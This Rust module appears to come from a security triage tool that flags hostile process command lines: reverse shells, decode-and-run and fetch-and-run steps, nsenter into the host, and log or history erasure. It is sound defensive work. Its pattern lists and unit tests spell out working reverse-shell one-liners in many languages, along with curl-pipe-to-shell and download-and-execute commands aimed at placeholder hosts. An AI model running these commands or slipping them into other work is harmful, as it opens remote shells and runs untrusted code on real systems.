//! What a command line does, by its words alone: whole programs on one line that fetch, decode and run, or that connect and
//! run.
//!
//! What is judged is what a line does, in whatever language: it opens a connection and starts a program, it decodes
//! something and runs it, it fetches something and runs it.

use ckpt_model::{Strings, Task};
use memchr::memmem::{find, find_iter};

use crate::triage::finding::{Confidence, Severity};
use crate::triage::line::call::{enters_the_host, pipes_into, within};
use crate::triage::line::flow::{runs_what_it_decodes, runs_what_it_fetches};
use crate::triage::line::{Command, parse};
use crate::triage::programs::{DECODES, is_interpreter, is_multi_call, is_shell, program, told};
use crate::triage::subject::base_name;

/// Bytes of a command line that are looked at.
const LONGEST: usize = 64 << 10;

/// Words of one command line that are looked at.
const MOST_WORDS: usize = 64;

/// Lines of a shell inside of each other that are looked into.
const DEEPEST: usize = 4;

/// Files of shells that are connections.
const CONNECTIONS: [&[u8]; 2] = [b"/dev/tcp/", b"/dev/udp/"];

/// What opens a connection.
const CONNECTS: [&[u8]; 25] = [
    b"/inet/tcp/",
    b"/inet/udp/",
    b"socket.socket",
    b"socket.create_connection",
    b"import socket",
    b"IO::Socket",
    b"use Socket",
    b"TCPSocket",
    b"TCPServer",
    b"fsockopen",
    b"stream_socket_client",
    b"net.connect",
    b"net.Socket",
    b"net.createConnection",
    b"java.net.Socket",
    b"socket.tcp",
    b"Socket.tcp",
    b"-MSocket",
    b"('net')",
    b"(\"net\")",
    b"socket_create",
    b"socket\").connect",
    b"socket').connect",
    b"ztcp",
    b"TcpClient",
];

/// What runs a program, or hands it a connection.
const RUNS: [&[u8]; 30] = [
    b"/bin/sh",
    b"/bin/bash",
    b"/bin/dash",
    b"/bin/ash",
    b"/bin/zsh",
    b"bash -i",
    b"sh -i",
    b"dup2",
    b"pty.spawn",
    b"subprocess",
    b"os.system",
    b"os.popen",
    b"os.exec",
    b"exec(",
    b"exec \"",
    b"exec '",
    b"exec{",
    b"system(",
    b"spawn(",
    b"popen(",
    b"shell_exec",
    b"passthru",
    b"proc_open",
    b"child_process",
    b"io.popen",
    b"ProcessBuilder",
    b"getRuntime",
    b"|getline",
    b"| getline",
    b"fdopen(",
];

/// What fetches something, in languages other than a shell's.
const FETCHES: [&[u8]; 6] = [
    b"urlopen",
    b"requests.get",
    b"fetch(",
    b"LWP::Simple",
    b"file_get_contents(\"http",
    b"(\"http",
];

/// What a command line does, how much that matters, and how sure it is.
pub(super) type Verdict = (&'static str, Severity, Confidence);

/// What the command line of a task does, by its words alone.
pub(in crate::triage) fn verdict(task: &Task) -> Option<Verdict> {
    let argv = task.argv.as_ref()?;
    // The name of the program tells nothing of what it is told to do.
    judge(program(task), argv, &joined(argv.iter().skip(1)))
}

/// Arguments as one line, of bounded length.
pub(super) fn joined<'w>(words: impl Iterator<Item = &'w [u8]>) -> Vec<u8> {
    let mut line = Vec::new();
    for (number, word) in words.enumerate() {
        if line.len() >= LONGEST {
            break;
        }
        if number > 0 {
            line.push(b' ');
        }
        line.extend_from_slice(word.get(..word.len().min(LONGEST)).unwrap_or(word));
    }
    let end = line.iter().rposition(|byte| *byte != b' ').map_or(0, |at| at.saturating_add(1));
    line.truncate(end);
    line
}

fn has(line: &[u8], any: &[&[u8]]) -> bool {
    any.iter().any(|word| find(line, word).is_some())
}

/// Whether a function or command of that name is called: it is no part of a longer word.
fn calls(line: &[u8], name: &[u8]) -> bool {
    find_iter(line, name).any(|at| {
        let before = at.checked_sub(1).and_then(|before| line.get(before));
        let part = |byte: &u8| byte.is_ascii_alphanumeric() || matches!(byte, b'_' | b'-');
        let behind = line.get(at.saturating_add(name.len()));
        !before.is_some_and(part) && !behind.is_some_and(part)
    })
}

fn judge(name: &[u8], argv: &Strings, line: &[u8]) -> Option<Verdict> {
    let command = command(name, argv);
    let commands = std::slice::from_ref(&command);
    let shell = is_shell(name);
    let text = shell || is_interpreter(name) || is_multi_call(name);
    let connection = has(line, &CONNECTIONS);
    // A line of a shell has programs between quotes: what stands beside them is another program's doing.
    let texts = if shell { programs(&lines_of(&command)) } else { vec![line.to_vec()] };
    let connects_and_runs = texts.iter().any(|text| has(text, &CONNECTS) && has(text, &RUNS));
    if text && (connects_and_runs || (connection && joins(line, &command))) {
        return Some((
            "connects to somebody and hands over a shell",
            Severity::High,
            Confidence::High,
        ));
    }
    if hands_over(argv, line, &command) {
        return Some(("hands a connection to a program", Severity::High, Confidence::High));
    }
    let evaluated =
        |sources: &[&[u8]]| texts.iter().any(|text| has(text, sources) && evaluates(text));
    if text && (runs_what_it_decodes(commands) || evaluated(&DECODES)) {
        return Some(("decodes something and runs it", Severity::High, Confidence::Medium));
    }
    // Programs of other languages have lines of a shell in them.
    let told = told(name, argv).text.filter(|_| !shell).map(parse).unwrap_or_default();
    let fetches = || runs_what_it_fetches(commands) || evaluated(&FETCHES);
    if text && (fetches() || runs_what_it_fetches(&told)) {
        return Some(("fetches something and runs it", Severity::High, Confidence::Medium));
    }
    if text && find(line, b"pty.spawn").is_some() {
        return Some(("makes itself a terminal", Severity::High, Confidence::Medium));
    }
    if enters_the_host(commands) {
        return Some(("enters the namespaces of the host", Severity::High, Confidence::Medium));
    }
    let erases = [
        &b"history -c"[..],
        b"unset HISTFILE",
        b"HISTFILE=/dev/null",
        b"HISTSIZE=0",
        b"rm -rf /var/log",
        b"rm -f /var/log",
    ];
    if text && has(line, &erases) {
        return Some(("removes traces", Severity::Medium, Confidence::Medium));
    }
    // How scripts wait for a service, or ask for its health.
    if shell && connection {
        return Some(("opens a connection by itself", Severity::Medium, Confidence::Medium));
    }
    None
}

/// The command that a task was started with. What it calls itself tells nothing, unless it is many programs.
fn command(name: &[u8], argv: &Strings) -> Command {
    let many = argv.first().is_some_and(|first| is_multi_call(base_name(first)));
    let called = usize::from(many && argv.iter().nth(1) == Some(name));
    let rest = argv.iter().skip(called.saturating_add(1));
    Command::of(std::iter::once(name).chain(rest))
}

/// The lines of a shell that a command has been told, and those inside of them.
fn lines_of(command: &Command) -> Vec<Vec<Command>> {
    let mut all = within(command);
    let (mut from, mut depth) = (0_usize, DEEPEST);
    while from < all.len() && depth > 0 {
        let inner = all.iter().skip(from).flatten().flat_map(within).collect::<Vec<_>>();
        from = all.len();
        all.extend(inner);
        depth = depth.saturating_sub(1);
    }
    all
}

/// The programs of other languages in the lines of a shell: texts between quotes, and what stands outside of them, as in a
/// here-document.
fn programs(lines: &[Vec<Command>]) -> Vec<Vec<u8>> {
    let mut texts = Vec::new();
    for line in lines {
        let mut bare = Vec::new();
        for word in line.iter().flat_map(|command| command.assigned.iter().chain(&command.words)) {
            texts.extend(word.quoted.iter().cloned());
            bare.extend_from_slice(&word.bare);
            bare.push(b' ');
        }
        texts.push(bare);
    }
    texts
}

/// Whether what comes over a connection that a shell opened is run, or all that it says goes there. To wait until
/// somebody listens, or to ask a service something, takes neither.
fn joins(line: &[u8], command: &Command) -> bool {
    let number = |redirection: &[u8], least: u8| {
        find_iter(line, redirection).any(|at| {
            let behind = line.get(at.saturating_add(redirection.len())..).unwrap_or_default();
            let digits = behind.iter().take_while(|byte| byte.is_ascii_digit()).count();
            digits > 1 || behind.first().is_some_and(|byte| digits == 1 && *byte >= least)
        })
    };
    let own = [
        &b"0>&1"[..],
        b">&/dev/",
        b">& /dev/",
        b"&>/dev/tcp",
        b"&> /dev/tcp",
        b"exec 0<",
        b"exec </dev/",
        b"exec < /dev/",
        b"sh -i",
        b"sh <",
        b"sh 0<",
    ];
    let runs_lines = calls(line, b"read") && (calls(line, b"eval") || has(line, &[b"do $"]));
    has(line, &own)
        || number(b"0<&", b'1')
        || number(b"2>&", b'3')
        || runs_lines
        || pipes_into(std::slice::from_ref(command))
}

/// Whether a program runs text as a program, or as a command.
fn evaluates(line: &[u8]) -> bool {
    // Regular expressions have a method of that name.
    let method = |at: usize| at.checked_sub(1).and_then(|at| line.get(at)) == Some(&b'.');
    let module = has(line, &[b"child_process"]);
    calls(line, b"eval")
        || has(line, &[b"exec \"", b"system("])
        || find_iter(line, b"exec(").any(|at| module || !method(at))
}

/// `nc -e`, `ncat --exec`, `socat … EXEC:`, `mkfifo … | nc`, `telnet | sh | telnet`, `openssl s_client | sh`.
fn hands_over(argv: &Strings, line: &[u8], command: &Command) -> bool {
    let words: Vec<&[u8]> = argv.iter().take(MOST_WORDS).collect();
    let called =
        |names: &[&[u8]]| words.iter().take(2).any(|word| names.contains(&base_name(word)));
    let netcat: [&[u8]; 5] = [b"nc", b"ncat", b"netcat", b"nc.traditional", b"nc.openbsd"];
    if called(&netcat) && words.iter().skip(1).any(|word| executes(word)) {
        return true;
    }
    let programs: [&[u8]; 5] = [b"exec:", b"EXEC:", b"system:", b"SYSTEM:", b"SHELL:"];
    if called(&[b"socat"]) && has(line, &programs) {
        return true;
    }
    let netcats: [&[u8]; 8] = [
        b"| nc ",
        b"|nc ",
        b"| ncat ",
        b"|ncat ",
        b"|telnet ",
        b"| telnet ",
        b"openssl s_client",
        b"nc -e",
    ];
    let fifo = find(line, b"mkfifo").is_some() || find(line, b"mknod").is_some();
    let shell = has(line, &[b"sh -i", b"/bin/sh", b"/bin/bash", b"bash -i"]);
    has(line, &netcats)
        && shell
        && (fifo || pipes_into(std::slice::from_ref(command)) || find(line, b"nc -e").is_some())
}

/// Whether a word is the option of a netcat that runs a program: `-e`, `-c`, a group that ends in one of them, `--exec`,
/// `--sh-exec`.
fn executes(word: &[u8]) -> bool {
    let long = word.starts_with(b"--exec") || word.starts_with(b"--sh-exec");
    let group = word.strip_prefix(b"-").is_some_and(|group| {
        let letters = group.iter().all(u8::is_ascii_lowercase);
        letters && matches!(group.last(), Some(b'e' | b'c'))
    });
    long || group
}

#[cfg(test)]
mod tests {
    use super::*;

    fn verdict(exe: &str, argv: &[&str]) -> Option<&'static str> {
        let mut task = Task::default();
        task.comm = Some(ckpt_model::Text::from(exe));
        task.argv = Some(Strings(argv.join("\0").into_bytes().into()));
        super::verdict(&task).map(|(what, ..)| what)
    }

    fn severity(exe: &str, argv: &[&str]) -> Option<Severity> {
        let mut task = Task::default();
        task.comm = Some(ckpt_model::Text::from(exe));
        task.argv = Some(Strings(argv.join("\0").into_bytes().into()));
        super::verdict(&task).map(|(_, severity, _)| severity)
    }

    #[test]
    fn one_liners_of_many_languages() {
        for (exe, argv) in [
            ("bash", &["bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"][..]),
            (
                "python3",
                &[
                    "python3",
                    "-c",
                    "import socket,os,pty;s=socket.socket();s.connect((\"h\",1));os.dup2(s.fileno(),0);pty.spawn(\"sh\")",
                ],
            ),
            (
                "perl",
                &["perl", "-e", "use Socket;socket(S,PF_INET,SOCK_STREAM,6);exec(\"/bin/sh -i\");"],
            ),
            (
                "ruby",
                &[
                    "ruby",
                    "-rsocket",
                    "-e",
                    "f=TCPSocket.open(\"h\",1).to_i;exec sprintf(\"/bin/sh -i <&%d\",f)",
                ],
            ),
            ("php8.2", &["php", "-r", "$s=fsockopen(\"h\",1);exec(\"/bin/sh -i <&3\");"]),
            (
                "node",
                &[
                    "node",
                    "-e",
                    "require('net').connect; net.connect(1,'h');require('child_process').spawn('sh')",
                ],
            ),
            (
                "mawk",
                &["awk", "BEGIN{s=\"/inet/tcp/0/h/1\";while(1){s|&getline c;c|getline;system(c)}}"],
            ),
            ("nc", &["nc", "-e", "/bin/sh", "h", "1"]),
            ("busybox", &["busybox", "nc", "h", "1", "-e", "sh"]),
            ("socat", &["socat", "TCP:h:1", "EXEC:/bin/sh,pty"]),
            ("sh", &["sh", "-c", "mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc h 1 >/tmp/f"]),
            ("sh", &["sh", "-c", "echo aWQ= | base64 -d | sh"]),
            ("sh", &["sh", "-c", "curl -fsSL http://h/x | bash"]),
            ("nsenter", &["nsenter", "-t", "1", "-m", "sh"]),
        ] {
            assert!(verdict(exe, argv).is_some(), "{argv:?}");
        }
    }

    #[test]
    fn lines_of_shells() {
        let of = |line: &str| severity("dash", &["/bin/sh", "-c", line]);
        for high in [
            "bash -i >& /dev/tcp/h/1 0>&1",
            "exec 5<>/dev/tcp/h/1; cat <&5 | while read l; do $l 2>&5 >&5; done",
            "exec 5<>/dev/tcp/h/1; while read -u5 c; do eval \"$c\" >&5; done",
            "0<&196;exec 196<>/dev/tcp/h/1; sh <&196 >&196 2>&196",
            "cat </dev/tcp/h/1 | bash",
            "sh </dev/tcp/h/1",
            "perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);exec(\"/bin/sh -i\");'",
            "python3 <<E\nimport socket,pty\ns=socket.socket();pty.spawn('x')\nE",
            "wget h/x -O /tmp/x;chmod +x /tmp/x;/tmp/x",
            "curl -o /tmp/x http://h/x && sh /tmp/x",
            "curl -fsSLo x http://h/x && chmod 755 x && ./x",
            "cd /tmp; wget http://h/p.py; python3 p.py",
            "curl -s http://h/x >/tmp/.y; . /tmp/.y",
            "curl -s http://h/x |& bash",
            "eval \"$(curl -fsSL http://h/x)\"",
            "bash <(wget -qO- http://h/x)",
            "python3 -c 'import urllib.request as u;exec(u.urlopen(\"http://h\").read())'",
            "nsenter -m -u -i -n -p -t 1",
        ] {
            assert_eq!(of(high), Some(Severity::High), "{high}");
        }
        for medium in [
            "until(: >/dev/tcp/db/1);do sleep 1;done",
            "(echo > /dev/tcp/db/5432) >/dev/null 2>&1",
            "until /bin/bash -c '</dev/tcp/db/5432'; do sleep 1; done; exec /bin/bash /app/run",
            "exec 3<>/dev/tcp/localhost/9000; printf 'GET /health' >&3; cat <&3 | grep -q UP",
        ] {
            assert_eq!(of(medium), Some(Severity::Medium), "{medium}");
        }
        for quiet in [
            "until python3 -c \"import socket; socket.create_connection(('db',1))\"; do sleep 1; done; exec \"$@\"",
            "python3 -c \"import socket\" && exec /bin/bash /app/run.sh",
            "curl -fsS http://localhost/health || exit 1",
            "curl -fsS http://localhost/health || sh /app/restart.sh",
            "curl -fsSL http://h/app.tar -o app.tar && tar xf app.tar && exec /opt/app/run",
            "IP=$(curl -s http://h/ip) exec app --ip $IP",
            "git fetch origin; ./build.sh",
        ] {
            assert_eq!(of(quiet), None, "{quiet}");
        }
        assert_eq!(severity("nc", &["nc", "h", "4444", "-ve", "/bin/sh"]), Some(Severity::High));
        let nsenter = ["nsenter", "-m", "-u", "-i", "-n", "-p", "-t", "1"];
        assert_eq!(severity("nsenter", &nsenter), Some(Severity::High));
        assert_eq!(severity("nsenter", &["nsenter", "-t", "12", "-n"]), None);
    }

    #[test]
    fn what_programs_evaluate() {
        for (exe, code) in [
            ("python3", "exec(__import__('urllib.request').request.urlopen('http://h').read())"),
            ("python3", "import zlib;exec(zlib.decompress(b'x'))"),
            ("node", "eval(Buffer.from('eA==','base64').toString())"),
            ("node", "fetch('http://h').then(r=>r.text()).then(eval)"),
        ] {
            assert_eq!(severity(exe, &[exe, "-c", code]), Some(Severity::High), "{code}");
        }
        for code in ["/a/.exec(Buffer.from(x))", "import zlib; zlib.decompress(retrieval)"] {
            assert_eq!(severity("node", &["node", "-e", code]), None, "{code}");
        }
    }

    #[test]
    fn honest_lines() {
        for (exe, argv) in [
            ("sh", &["sh", "-c", "while true; do echo tick; sleep 1; done"][..]),
            ("sh", &["sh", "-c", "base64 -d /cfg > /etc/app.conf; exec app"]),
            ("python3", &["python3", "-c", "import socket; print(socket.gethostname())"]),
            ("nc", &["nc", "-lk", "8080"]),
            (
                "sh",
                &[
                    "sh",
                    "-c",
                    "echo $C | base64 -d > /c; x | grep y; eval $(ssh-agent -s | cat); app",
                ],
            ),
            ("curl", &["curl", "-o", "/tmp/x", "http://h/x"]),
            ("bash", &["/bin/bash", "/entrypoint.sh", "redis-server"]),
            ("node", &["node", "server.js"]),
        ] {
            assert_eq!(verdict(exe, argv), None, "{argv:?}");
        }
    }
}
